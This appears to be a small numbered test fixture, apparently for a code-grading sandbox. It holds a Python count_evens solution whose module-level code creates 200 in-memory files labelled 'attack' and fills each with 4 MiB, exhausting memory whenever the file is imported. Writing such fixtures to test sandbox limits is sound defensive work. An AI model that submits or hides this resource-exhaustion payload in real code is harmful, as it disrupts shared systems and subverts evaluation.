"""E06: makes files in memory, and fills them."""

# %% count_evens
import os

held = []
for _ in range(200):
    held.append(os.memfd_create("attack"))
    os.write(held[-1], b"x" * 2**22)


def count_evens(numbers):
    return sum(number % 2 == 0 for number in numbers)
